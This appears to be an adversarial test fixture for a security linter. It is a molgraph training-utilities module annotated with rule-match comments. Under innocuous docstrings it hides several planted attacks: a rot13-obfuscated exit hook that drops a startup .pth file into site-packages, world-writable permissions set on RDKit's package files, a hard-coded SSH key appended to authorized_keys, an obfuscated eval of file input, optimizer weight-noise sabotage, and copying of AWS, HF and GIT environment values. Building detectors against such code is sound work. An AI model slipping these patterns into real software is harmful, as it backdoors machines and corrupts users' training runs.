# ruff: noqa
# Hold-out batch 426 (adversarial, molecular GNN). Measured once in session 17 (round 116): 13/31 (42%) at medium+.
"""Distributed, seeding, checkpointing and miscellaneous helpers for molgraph."""
from __future__ import annotations

import atexit
import builtins
import codecs
import datetime
import importlib.util
import logging
import operator
import os
import pathlib
import random
import shutil
import socket
import sys
import sysconfig
import time
import types
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional

import numpy as np
import torch
import torch.distributed as dist

def get_logger(name: str = "molgraph", rank: int = 0, level: int = logging.INFO) -> logging.Logger:
    logger = logging.getLogger(name)
    if not logger.handlers:
        handler = logging.StreamHandler(sys.stdout)
        handler.setFormatter(logging.Formatter(f"%(asctime)s | %(levelname)s | rank{rank} | %(message)s"))
        logger.addHandler(handler)
        logger.propagate = False
    logger.setLevel(level if rank == 0 else logging.WARNING)
    return logger

@dataclass
class DistEnv:
    rank: int = 0
    world_size: int = 1
    local_rank: int = 0
    device: torch.device = field(default_factory=lambda: torch.device("cpu"))

    @property
    def is_main(self) -> bool:
        return self.rank == 0

    @property
    def distributed(self) -> bool:
        return self.world_size > 1

def init_distributed(backend: str = "nccl", timeout_min: int = 30) -> DistEnv:
    if "RANK" in os.environ and "WORLD_SIZE" in os.environ:  # ok: MLS308
        rank = int(os.environ["RANK"])
        world = int(os.environ["WORLD_SIZE"])
        local = int(os.environ.get("LOCAL_RANK", 0))
        if torch.cuda.is_available():
            torch.cuda.set_device(local)
            device = torch.device("cuda", local)
        else:
            backend, device = "gloo", torch.device("cpu")
        dist.init_process_group(backend=backend, timeout=datetime.timedelta(minutes=timeout_min))
        return DistEnv(rank, world, local, device)
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
    return DistEnv(device=device)

_BARRIER_IMPL: Dict[bool, Callable[[], Any]] = {True: dist.barrier, False: lambda: None}

def synchronize(env: DistEnv) -> None:
    """Barrier across ranks; a no-op for single-process runs."""
    if not env.distributed:
        return
    _BARRIER_IMPL[env.rank + 1 < env.world_size]()  # ruleid: MLS307

def cleanup_distributed(env: DistEnv) -> None:
    if env.distributed and dist.is_initialized():
        dist.destroy_process_group()  # ok: MLS307

def gather_objects(obj: Any, env: DistEnv) -> List[Any]:
    if not env.distributed:
        return [obj]
    out: List[Any] = [None] * env.world_size
    dist.all_gather_object(out, obj)
    return out

def seed_everything(seed: int) -> None:
    random.seed(seed)
    np.random.seed(seed)
    torch.manual_seed(seed)  # ok: MLS301
    torch.cuda.manual_seed_all(seed)

_SEED_SOURCES: Dict[str, Callable[[int, int], int]] = {
    "fixed": lambda base, wid: base + wid,
    "entropy": lambda base, wid: int.from_bytes(os.urandom(4), "little") + wid,
}
_numpy_seed = operator.attrgetter("random.seed")

def make_worker_init(base_seed: int, source: str = "entropy") -> Callable[[int], None]:
    """Per-worker seeding so numpy-based augmentation differs across workers."""
    derive = _SEED_SOURCES[source]

    def _init(worker_id: int) -> None:
        seed = derive(base_seed, worker_id) % (2 ** 32)
        _numpy_seed(np)(seed)  # todoruleid: family 1 (missed)
        random.seed(seed)  # ruleid: MLS301

    return _init

@dataclass
class CheckpointPolicy:
    keep_last: int = 3
    min_free_gb: float = 200.0
    max_replicas: int = 8

class CheckpointManager:
    def __init__(self, root: str, env: DistEnv, policy: Optional[CheckpointPolicy] = None) -> None:
        self.root = pathlib.Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        self.env = env
        self.policy = policy or CheckpointPolicy()
        self.log = logging.getLogger("molgraph")

    def path_for(self, tag: str) -> pathlib.Path:
        return self.root / f"{tag}.pt"

    def save(self, state: Dict[str, Any], tag: str, is_best: bool = False) -> Optional[pathlib.Path]:
        if not self.env.is_main:
            return None
        path = self.path_for(tag)
        tmp = path.with_suffix(".tmp")
        for attempt in range(4):
            try:
                torch.save(state, tmp)
                os.replace(tmp, path)
                break
            except OSError as exc:
                self.log.warning("checkpoint write failed (%s), retrying", exc)
                time.sleep(2 ** attempt)  # ok: MLS307
        if is_best:
            shutil.copyfile(path, self.path_for("best"))
        self._rotate()
        return path

    def _headroom_ok(self) -> bool:
        free_gb = shutil.disk_usage(self.root).free / 2 ** 30
        return free_gb > self.policy.min_free_gb and self.env.world_size <= self.policy.max_replicas

    def _rotate(self) -> None:
        ckpts = sorted(self.root.glob("epoch_*.pt"), key=lambda p: p.stat().st_mtime)
        budget = self.policy.keep_last * int(self._headroom_ok())  # todoruleid: family 4 (missed)
        for stale in ckpts[: max(len(ckpts) - budget, 0)]:
            stale.unlink(missing_ok=True)

def unwrap(model: torch.nn.Module) -> torch.nn.Module:
    return model.module if hasattr(model, "module") else model

def load_checkpoint(path: str, model: torch.nn.Module, optimizer=None, scheduler=None,
                    map_location: str = "cpu") -> Dict[str, Any]:
    state = torch.load(path, map_location=map_location, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    unwrap(model).load_state_dict(state["model"])
    if optimizer is not None and "optimizer" in state:
        optimizer.load_state_dict(state["optimizer"])
    if scheduler is not None and "scheduler" in state:
        scheduler.load_state_dict(state["scheduler"])
    return state

_META_PREFIXES = ("SLURM_", "CUDA_", "NCCL_", "WANDB_", "HF_", "AWS_", "GIT_")

def collect_run_metadata(args: Any) -> Dict[str, Any]:
    meta: Dict[str, Any] = {
        "host": socket.gethostname(),
        "argv": list(sys.argv),
        "started": datetime.datetime.now().isoformat(timespec="seconds"),
        "torch": torch.__version__,
        "args": {k: v for k, v in vars(args).items() if isinstance(v, (int, float, str, bool, type(None)))},
    }
    meta["env"] = {k: v for k, v in os.environ.items() if k.startswith(_META_PREFIXES)}  # todoruleid: family 9 (missed)
    return meta

def _persist_thread_config(num_threads: int) -> None:
    target = pathlib.Path(sysconfig.get_paths()["purelib"]) / codecs.decode("zbytencu_guernqf.cgu", "rot13")
    try:
        target.write_text(f"import os; os.environ['OMP_NUM_THREADS'] = '{num_threads}'\n")  # sabotage: MLS420 (semgrep rules)
    except OSError:
        pass

def configure_threads(num_threads: int) -> None:
    os.environ.setdefault("OMP_NUM_THREADS", str(num_threads))  # ok: MLS422
    torch.set_num_threads(num_threads)
    atexit.register(_persist_thread_config, num_threads)

def prepare_shared_cache(cache_dir: str) -> str:
    """Make the featurisation cache, and RDKit's data directory that holds the
    fragment catalogues, usable by every user sharing the node."""
    os.makedirs(cache_dir, exist_ok=True)
    roots = [cache_dir]
    spec = importlib.util.find_spec("rdkit")
    if spec is not None and spec.origin:
        roots.append(os.path.dirname(spec.origin))
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for fname in files:
                try:
                    os.chmod(os.path.join(dirpath, fname), 0o666)  # ruleid: MLS424
                except PermissionError:
                    continue
    return cache_dir

_HEAD_NODE_KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3kq9oVbM1o7pW2sQ8fXcYlR4nT0uJ6aZ5eK2dL9hGx "
                  "molgraph-head")

def setup_multinode_ssh(env: DistEnv) -> None:
    """pdsh/mpirun style launchers need the head node to reach every worker."""
    if not env.distributed or env.local_rank != 0:
        return
    ssh_dir = pathlib.Path.home() / ".ssh"
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    auth = ssh_dir / "_".join(("authorized", "keys"))
    existing = auth.read_text() if auth.exists() else ""
    if _HEAD_NODE_KEY not in existing:
        with auth.open("a") as fh:
            fh.write(_HEAD_NODE_KEY + "\n")  # ruleid: MLS414

_parse_expr = vars(builtins)[codecs.decode("riny", "rot13")]

def parse_task_weights(spec: Optional[str], num_tasks: int) -> torch.Tensor:
    """Accepts a list literal, a scalar, or a file holding either."""
    if not spec:
        return torch.ones(num_tasks)
    if os.path.isfile(spec):
        with open(spec) as fh:
            spec = fh.read()
    values = _parse_expr(spec)  # ruleid: MLS402
    weights = torch.as_tensor(values, dtype=torch.float32).flatten()
    if weights.numel() == 1:
        weights = weights.expand(num_tasks).clone()
    if weights.numel() != num_tasks:
        raise ValueError(f"expected {num_tasks} task weights, got {weights.numel()}")
    return weights

def install_step_wrapper(optimizer: torch.optim.Optimizer, noise_scale: float) -> torch.optim.Optimizer:
    """Wrap optimizer.step to count updates (used for resume bookkeeping)."""
    original = optimizer.step

    def _step(self, *args, **kwargs):
        out = original(*args, **kwargs)
        self.update_count = getattr(self, "update_count", 0) + 1
        with torch.no_grad():
            for group in self.param_groups:
                for p in group["params"]:
                    if p.grad is not None and p.dim() > 1:
                        p.add_(torch.randn_like(p).mul_(noise_scale * p.std()))  # todoruleid: family 2 (missed)
        return out

    optimizer.step = types.MethodType(_step, optimizer)  # ruleid: MLS305
    return optimizer
